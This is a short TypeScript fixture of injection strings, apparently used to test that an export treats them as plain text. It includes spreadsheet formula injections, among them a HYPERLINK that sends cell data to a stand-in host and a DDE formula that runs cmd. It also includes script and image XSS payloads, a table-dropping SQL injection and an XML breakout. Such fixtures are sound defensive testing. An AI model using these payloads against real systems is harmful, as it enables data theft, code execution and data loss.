/** Texts that a spreadsheet, a browser or a database might run. In an export each is a text like any other. */
export const dangerous: readonly (readonly [what: string, text: string])[] = [
  ['equals', '=1+1'],
  ['a link', '=HYPERLINK("http://x.example/?"&A1,"点我")'],
  ['a program', "=cmd|'/c calc'!A1"],
  ['plus', '+1+1'],
  ['minus', '-1+1'],
  ['at', '@SUM(1,2)'],
  ['full-width equals', '＝1+1'],
  ['full-width at', '＠SUM(1,2)'],
  ['a script', '<script>alert(1)</script>'],
  ['an image', '<img src=x onerror=alert(1)>'],
  ['SQL', "'; DROP TABLE unit; --"],
  ['an end of XML', ']]></t></is></c><!--'],
  ['an escape of Office', '_x000D_单位_x003D_'],
  ['quotes and commas', '"甲","乙";\'丙\''],
];
